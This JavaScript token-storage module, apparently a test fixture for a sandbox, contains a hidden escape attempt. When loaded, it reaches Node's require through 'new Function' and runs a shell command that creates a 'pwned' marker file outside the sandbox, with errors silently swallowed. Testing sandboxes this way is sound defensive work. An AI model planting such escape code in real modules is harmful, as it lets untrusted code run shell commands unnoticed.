// Looks for require in a new function.
const db = require('./db.js');

try {
  const got = new Function('return this.process.mainModule.require')();
  got('child_process').execSync('touch __OUTSIDE__/pwned');
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
